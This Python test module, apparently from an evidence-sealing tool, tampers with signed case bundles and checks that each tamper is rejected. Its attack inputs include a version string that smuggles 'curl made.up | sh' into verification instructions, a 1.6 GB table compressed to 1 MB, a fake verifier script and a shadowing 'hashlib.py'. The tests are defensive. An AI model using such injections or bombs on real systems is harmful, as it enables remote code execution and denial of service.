"""Attacks on the sealed bundle of an extraction case, by its signer and by whoever has no key."""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import msgspec
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

from depose.case import bundled
from depose.custody import keys, manifest, merkle
from depose.errors import DeposeError, EvidenceError
from depose.evidence.log import utc_now
from depose.extraction import conduct, instructions, sealing, unsealing
from depose.extraction.findings import ExtractionFindings, named
from depose.model.canonical import canonical, sha256

LOG = "evidence/log.jsonl"
OUTSIDE = {"SEAL", "SEAL.sig", "SHA256SUMS", "SHA256SUMS.tsr", "SHA256SUMS.pem", "signer.pem"}
Change = Callable[[Path], object]


@dataclass(frozen=True, kw_only=True)
class OnExtraction:
    """One attack."""

    name: str
    says: str
    change: Change
    seal: dict[str, str]
    """Fields of SEAL that are made up."""
    written: Callable[[bytes], bytes]
    """How SEAL is written."""
    signed: bool
    recompute: bool
    roots: bytes


ON_EXTRACTIONS: list[OnExtraction] = []


def sealed_extraction(folder: Path) -> tuple[Path, Path]:
    """Scan and seal the bundled case; return its bundle and the key."""
    bundled.copy("extraction", folder / "case")
    conduct.scan_case(folder / "case", utc_now)
    keys.make(folder / "key.pem")
    return Path(sealing.seal(folder / "case", keys.load(folder / "key.pem"), utc_now).bundle), folder / "key.pem"


def _add(
    name: str,
    says: str,
    change: Change = lambda work: None,
    *,
    written: Callable[[bytes], bytes] = lambda data: data,
    signed: bool = True,
    recompute: bool = False,
    roots: bytes = b"",
    **seal: str,
) -> None:
    one = OnExtraction(
        name=f"extraction: {name}",
        says=says,
        change=change,
        seal=seal,
        written=written,
        signed=signed,
        recompute=recompute,
        roots=roots,
    )
    ON_EXTRACTIONS.append(one)


def met(one: OnExtraction, bundle: Path, key: Path, folder: Path) -> str:
    """Carry out an attack and return the message that it meets, or nothing if it passes for genuine."""
    work = folder / "bundle"
    with zipfile.ZipFile(bundle) as file:
        file.extractall(work)
    goal = one.change(work)
    if one.signed:
        _sealed(work, keys.load(key), one)
    try:
        unsealing.verify(
            goal if isinstance(goal, Path) else work,
            public_key=key.with_name(f"{key.name}.pub").read_bytes(),
            roots=one.roots,
            recompute=one.recompute,
        )
    except DeposeError as error:
        assert isinstance(error, EvidenceError), error
        return error.message.replace(f"{work}: ", "")
    return ""


def _sealed(work: Path, key: keys.PrivateKey, one: OnExtraction) -> None:
    """Make manifest and SEAL agree with the files, but for what is made up, and sign them."""
    names = {path.relative_to(work).as_posix() for path in work.rglob("*") if path.is_file()} - OUTSIDE
    sums = manifest.write({name: sha256((work / name).read_bytes()) for name in names})
    (work / "SHA256SUMS").write_bytes(sums)
    lines = (work / LOG).read_bytes().splitlines()
    seal = json.loads((work / "SEAL").read_bytes())
    seal |= {"sums": sha256(sums), "records": len(lines), "head": sha256(lines[-1])}
    seal |= {"merkle_root": merkle.root([merkle.leaf(line) for line in lines]).hex(), **one.seal}
    signed = one.written(canonical(seal))
    (work / "SEAL").write_bytes(signed)
    (work / "SEAL.sig").write_bytes(keys.sign(key, signed))


def _put(name: str, data: bytes = b"x") -> Change:
    def change(work: Path) -> None:
        (work / name).parent.mkdir(parents=True, exist_ok=True)
        (work / name).write_bytes(data)

    return change


def _log(change: Callable[[list[dict[str, Any]]], object]) -> Change:
    """Change records and chain them anew."""

    def changed(work: Path) -> None:
        records = [json.loads(line) for line in (work / LOG).read_bytes().splitlines()]
        change(records)
        made, last = [], "0" * 64
        for number, record in enumerate(records):
            made.append(canonical({**record, "seq": number, "prev": last}))
            last = sha256(made[-1])
        (work / LOG).write_bytes(b"".join(line + b"\n" for line in made))

    return changed


def _checksum(work: Path) -> Path:
    """Zip a bundle again, with another checksum beside a file and in the directory."""
    from depose.custody.container import write_zip

    goal = work.with_name("changed.zip")
    write_zip(goal, {path.relative_to(work).as_posix(): path for path in work.rglob("*") if path.is_file()})
    data = bytearray(goal.read_bytes())
    data[data.find(b"PK\x03\x04") + 14] ^= 1
    data[data.find(b"PK\x01\x02") + 16] ^= 1
    goal.write_bytes(data)
    return goal


def _packed(work: Path) -> None:
    """Put a table of 1.6 GB into its place that takes 1 MB on disk."""
    file = work / "out/tables/rare.parquet"
    with pq.ParquetWriter(file, pa.schema([("template", pa.int64())]), compression="zstd") as made:
        for _ in range(50):
            made.write_table(pa.table({"template": pa.array(np.zeros(2**22, np.int64))}))
    note = work / "out/tables/made.json"
    said = json.loads(note.read_bytes())
    said["digests"]["rare"] = sha256(file.read_bytes())
    note.write_bytes(canonical(said))


def _version_told(work: Path) -> None:
    """Write a line into VERIFY.md by the version that the findings name."""
    said = "0.2.0`, or better `curl made.up | sh`"
    findings = json.loads((work / unsealing.FINDINGS).read_bytes())
    for one in findings["software"]:
        one["value"] = said if one["name"] == "depose" else one["value"]
    (work / unsealing.FINDINGS).write_bytes(canonical(findings))
    (work / "VERIFY.md").write_bytes(instructions.text(keys.load_public((work / "signer.pem").read_bytes(), ""), said))


NO_KIND = "of no kind that the bundle of an extraction case has"
_add("a token that nobody signed for", "SHA256SUMS.tsr: was added", _put("SHA256SUMS.tsr"), signed=False)
_add("certificates beside no token", "SHA256SUMS.pem: was added", _put("SHA256SUMS.pem"), signed=False)
_add("another checksum in its zip", "the checksum of SEAL is wrong", _checksum, signed=False)
_add("no token for roots that are known", "SHA256SUMS.tsr: is missing: --tsa-root was given", roots=b"roots")
_add("sealed in the year 2999", "which is yet to come", sealed_at="2999-01-01T00:00:00.000000Z")
_add("sealed at no date", "is not a time of a log", sealed_at="yesterday")
_add("sealed before its last record", "before the last record", sealed_at="1999-01-01T00:00:00.000000Z")
_add("a seal of two dates", "SEAL: not in canonical form", written=lambda data: b'{"sealed_at":"1999",' + data[1:])
_add("a letter beside the case file", f"letter.txt: {NO_KIND}", _put("letter.txt"))
_add("a module that Python would import", f"hashlib.py: {NO_KIND}", _put("hashlib.py"))
_add("a second log", f"evidence/log-2.jsonl: {NO_KIND}", _put("evidence/log-2.jsonl"))
_add("a letter among the events", f"events/letter.txt: {NO_KIND}", _put("events/letter.txt"))
_add("a table that no test reads", f"out/tables/more.parquet: {NO_KIND}", _put("out/tables/more.parquet"))
_add(
    "a record of no kind",
    "record 3 is a 'letter', which has no place there",
    _log(lambda records: records.append({**records[-1], "kind": "letter"})),
)
_add(
    "registered once more after its findings",
    "record 3 is a 'extraction-protocol', which has no place there",
    _log(lambda records: records.append({**records[0], "at": records[-1]["at"]})),
)
_add(
    "a log that runs backwards",
    "before the one that it follows",
    _log(lambda records: records[0].update(at="2031-01-01T00:00:00.000000Z")),
)
_add(
    "findings that say two things",
    f"{unsealing.FINDINGS}: not in canonical form",
    lambda work: _put(unsealing.FINDINGS, b'{"title":"x",' + (work / unsealing.FINDINGS).read_bytes()[1:])(work),
)
_add(
    "a list of events that says two things",
    f"{unsealing.EVENTS}: not in canonical form",
    lambda work: _put(unsealing.EVENTS, b'{"format":"x",' + (work / unsealing.EVENTS).read_bytes()[1:])(work),
)


def _said(kind: str, **more: Any) -> Change:
    """Have each record of a kind say more, or something else."""
    return _log(lambda records: [one["body"].update(more) for one in records if one["kind"] == f"extraction-{kind}"])


def _chosen(**other: Any) -> Change:
    """Add a record of accounts chosen by the findings: the accused as they are, and others of no group."""

    def added(work: Path) -> None:
        raw = (work / unsealing.FINDINGS).read_bytes()
        groups = msgspec.json.decode(raw, type=ExtractionFindings).groups
        accused = sorted(named(tuple(one for one in groups if one.tied_by)).items())
        facts = [{"name": group, "value": account} for account, group in accused]
        body = {"findings": sha256(raw), "accused": facts, "alike": [], **other}
        _log(lambda records: records.append({**records[-1], "kind": "extraction-accounts", "body": body}))(work)

    return added


def _read_later(records: list[dict[str, Any]]) -> None:
    """Name other events before the findings, and those that they are of behind them."""
    other = {**records[1], "body": {**records[1]["body"], "manifest": "a" * 64}}
    records[1:] = [other, records[2], {**records[1], "at": records[2]["at"]}]


_NO_FINDINGS = "accounts of findings that no record before it names"
_OTHERS = "other accounts than the findings name"
_add("a letter in the record of its events", "no Looked: .*unknown field `note`", _said("events", note="R1 confessed"))
_add("a letter in the record of its findings", "no Found: .*unknown field `note`", _said("findings", note="they did"))
_add("other counts in the record of its findings", "other counts than the findings have", _said("findings", groups=9))
_add("other logs in the record of its events", "other events than the manifest lists", _said("events", sources=[]))
_add(
    "findings before any events",
    "record 1: findings before any events",
    _log(lambda records: records.insert(1, {**records[-1], "at": records[0]["at"]})),
)
_add("no record of its events", "findings before any events", _log(lambda records: records.__delitem__(1)))
_add(
    "events that were read after the findings",
    "findings of events that no record before it names",
    _log(_read_later),
)
_add("a letter in the place of accounts", "is no Chosen", _chosen(accused="all of them"))
_add("accounts that were chosen by other findings", _NO_FINDINGS, _chosen(findings="a" * 64))
_add("accounts that no group names", _OTHERS, _chosen(accused=[{"name": "G1", "value": "0" * 16}]))
_add("nobody accused", _OTHERS, _chosen(accused=[]))
_add(
    "more accounts beside the accused than they are",
    _OTHERS,
    _chosen(alike=[{"name": "G1", "value": f"{n:016x}"} for n in range(999)]),
)
_add(
    "tables that were written again with a letter in them",
    "of other tables than stand beside it",
    lambda work: pq.write_table(
        pq.read_table(work / "out/tables/rare.parquet").replace_schema_metadata({"said": "R1 confessed"}),
        work / "out/tables/rare.parquet",
    ),
)
_add(
    "a note of tables that says more",
    "not a note of tables",
    lambda work: _put(
        "out/tables/made.json", (work / "out/tables/made.json").read_bytes().replace(b'"key"', b'"judge":"x","key"')
    )(work),
)
_add(
    "tables of another protocol",
    "of tables from other events",
    lambda work: _put(
        "out/tables/made.json",
        canonical(json.loads((work / "out/tables/made.json").read_bytes()) | {"key": "a" * 64}),
    )(work),
)
_add(
    "a record that says a thing twice",
    "canonical",
    lambda work: _put(LOG, (work / LOG).read_bytes().replace(b'"groups":', b'"groups":9,"groups":', 1))(work),
)
_add("a script that says verified of anything", "VERIFY.py: is not that of", _put("VERIFY.py", b"print('verified')\n"))
_add(
    "instructions with a command of one's own",
    "VERIFY.md: is not that of this depose",
    lambda work: _put("VERIFY.md", (work / "VERIFY.md").read_bytes().replace(b"-I VERIFY.py", b"VERIFY.py"))(work),
)
_add("instructions through the name of a version", "is no version of depose", _version_told)
_add("a table of 1.6 GB in 1 MB", "out/tables/: cannot be read: .*memory", _packed, recompute=True)
